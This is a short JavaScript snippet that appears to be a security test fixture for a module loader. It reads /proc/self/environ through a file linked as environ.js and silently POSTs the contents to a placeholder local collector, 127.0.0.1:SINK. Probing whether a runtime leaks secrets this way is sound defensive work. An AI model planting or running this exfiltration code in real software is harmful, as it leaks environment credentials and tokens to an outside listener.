// errored: has no default export
// link environ.js /proc/self/environ
const text = await (await fetch(new URL('./environ.js', import.meta.url))).text();
await fetch('http://127.0.0.1:SINK/environ', { method: 'POST', mode: 'no-cors', body: text }).catch(() => {});
